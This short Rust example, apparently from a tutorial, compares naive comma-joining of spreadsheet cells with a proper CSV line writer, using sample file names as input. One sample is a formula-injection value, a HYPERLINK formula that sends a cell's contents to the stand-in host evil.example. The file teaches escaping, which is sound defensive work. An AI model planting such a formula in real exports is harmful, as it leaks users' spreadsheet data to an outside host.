//! A table for a spreadsheet, and a document's name that would be a program.

use print_records::csv;

use crate::Outcome;

pub fn play() -> Outcome {
    // ANCHOR: csv
    for name in [
        "lease.pdf",
        "notice, \"last\".pdf",
        "=HYPERLINK(\"http://evil.example/\"&B1,\"lease.pdf\")",
    ] {
        let cells = ["ray", name, "3"];
        println!("  joined: {}", cells.join(","));
        println!("  ours:   {}", csv::line(&cells).trim_end());
    }
    // ANCHOR_END: csv
    Ok(())
}
